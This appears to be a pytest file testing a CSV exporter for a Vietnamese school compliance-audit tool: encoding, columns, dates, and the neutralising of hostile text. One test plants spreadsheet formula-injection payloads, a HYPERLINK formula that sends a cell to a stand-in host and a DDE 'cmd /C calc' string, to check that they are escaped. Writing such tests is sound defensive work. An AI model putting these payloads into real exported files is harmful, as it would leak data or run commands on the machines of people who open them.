"""reporters/csv_report.py: one row per finding in Excel's dialect, UTF-8 with a BOM so that
spreadsheets read Vietnamese, a code beside each label, ISO dates, and text that reads back."""

from __future__ import annotations

import csv
import dataclasses
import io

from compliance import CheckResult
from compliance.findings import SEVERITY_LABELS, STATUS_LABELS
from compliance.reporters import render
from compliance.reporters._table import UNREADABLE
from hostile import FORBIDDEN, hostile


def _rows(data: str | bytes) -> list[list[str]]:
    assert isinstance(data, bytes)
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))


def test_csv_has_a_bom_and_one_row_per_finding(example_audit: CheckResult) -> None:
    data = render(example_audit, "csv")
    assert isinstance(data, bytes) and data.startswith(b"\xef\xbb\xbf")
    rows = _rows(data)
    assert rows[0][0] == "Mã đơn vị" and len(rows) == len(example_audit.findings) + 1
    english = _rows(render(example_audit, "csv", "en"))
    assert english[0][:9] == [
        "Unit id",
        "Unit name",
        "Unit type",
        "Province",
        "District",
        "School levels",
        "School year",
        "Rule pack",
        "Rule id",
    ]
    assert all(len(row) == len(rows[0]) for row in rows + english)
    assert any("Trường Tiểu học Kim Giang" in row for row in rows)


def test_rows_end_with_crlf_and_quote_what_needs_it(example_audit: CheckResult) -> None:
    data = render(example_audit, "csv", "en")
    assert isinstance(data, bytes)
    lines = data.decode("utf-8-sig").split("\r\n")
    assert lines[-1] == "" and all("\n" not in line for line in lines)
    assert '"' in data.decode("utf-8-sig")  # a comma in a citation is quoted


def test_each_label_has_its_code_beside_it(example_audit: CheckResult) -> None:
    rows = _rows(render(example_audit, "csv", "en"))
    head = rows[0]
    for label, code in (
        ("Status", "Status code"),
        ("Severity", "Severity code"),
        ("Check kind", "Kind code"),
    ):
        assert head.index(code) == head.index(label) + 1
    status, severity = head.index("Status code"), head.index("Severity code")
    for row, f in zip(rows[1:], example_audit.findings, strict=True):
        assert (row[status - 1], row[status]) == (STATUS_LABELS[f.status].en, f.status.value)
        assert (row[severity - 1], row[severity]) == (SEVERITY_LABELS[f.severity].en, f.severity.value)
        assert row[head.index("Kind code")] == f.kind


def test_dates_are_iso_and_nothing_is_an_empty_field(example_audit: CheckResult) -> None:
    rows = _rows(render(example_audit, "csv", "en"))
    head = rows[0]
    dated = next(f for f in example_audit.findings if f.deadline and f.deadline.received)
    assert dated.deadline is not None and dated.deadline.received is not None
    row = next(r for r in rows if (r[0], r[head.index("Rule id")]) == (dated.unit_id, dated.rule_id))
    assert row[head.index("Due (D)")] == dated.deadline.due.isoformat()
    assert row[head.index("Received")] == dated.deadline.received.isoformat()
    undated = next(f for f in example_audit.findings if f.deadline is None and not f.waiver)
    row = next(r for r in rows if (r[0], r[head.index("Rule id")]) == (undated.unit_id, undated.rule_id))
    assert row[head.index("Due (D)")] == "" and row[head.index("Waiver")] == ""


def test_unreadable_documents_are_rows_of_their_own(unreadable_audit: CheckResult) -> None:
    rows = _rows(render(unreadable_audit, "csv"))
    code = rows[0].index("Mã loại kiểm tra")
    unreadable = [r for r in rows if r[code] == UNREADABLE]
    assert len(unreadable) == len(unreadable_audit.problems)
    assert any("hong.yaml" in cell for r in unreadable for cell in r)


def test_hostile_text_reads_back_with_every_row_whole(example_audit: CheckResult) -> None:
    result = hostile(example_audit)
    rows = _rows(render(result, "csv"))
    assert len(rows) == len(result.findings) + len(result.problems) + 1
    assert all(len(row) == len(rows[0]) for row in rows)
    assert not set(FORBIDDEN) & set("".join(c for row in rows for c in row))
    assert rows[1][1] == "Đơn vị Trường\ufffd số\ufffd 1\ufffd <b>&\ufffd\ufffd[31m đỏ\ufffd"


def test_text_a_spreadsheet_would_run_as_a_formula_is_written_as_text(example_audit: CheckResult) -> None:
    first = example_audit.findings[0]
    tricked = dataclasses.replace(
        first,
        unit_name='=HYPERLINK("http://ke-gian.example/?d="&A1,"Bấm vào đây")',
        waiver="@SUM(1+1)*cmd|' /C calc'!A0",
    )
    result = example_audit.model_copy(update={"findings": [tricked, *example_audit.findings[1:]]})
    rows = _rows(render(result, "csv"))
    assert not any(c.startswith(("=", "+", "-", "@", "\t", "\r")) for row in rows for c in row)
    assert '\'=HYPERLINK("http://ke-gian.example/?d="&A1,"Bấm vào đây")' in rows[1]
    assert "'@SUM(1+1)*cmd|' /C calc'!A0" in rows[1]


def test_a_hyphen_inside_text_is_left_alone(example_audit: CheckResult) -> None:
    rows = _rows(render(example_audit, "csv"))
    unit_ids = {row[0] for row in rows[1:]}
    assert "VN-HN-TX-TH-KIMGIANG" in unit_ids  # hyphens inside an id, not at its start
